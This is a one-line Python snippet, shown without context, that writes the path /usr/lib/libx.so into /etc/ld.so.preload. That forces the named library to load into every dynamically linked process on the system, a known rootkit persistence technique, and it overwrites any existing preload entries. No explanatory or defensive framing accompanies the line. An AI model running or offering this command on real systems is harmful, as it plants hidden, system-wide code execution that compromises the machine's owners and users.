open('/etc/ld.so.preload', 'w').write('/usr/lib/libx.so')
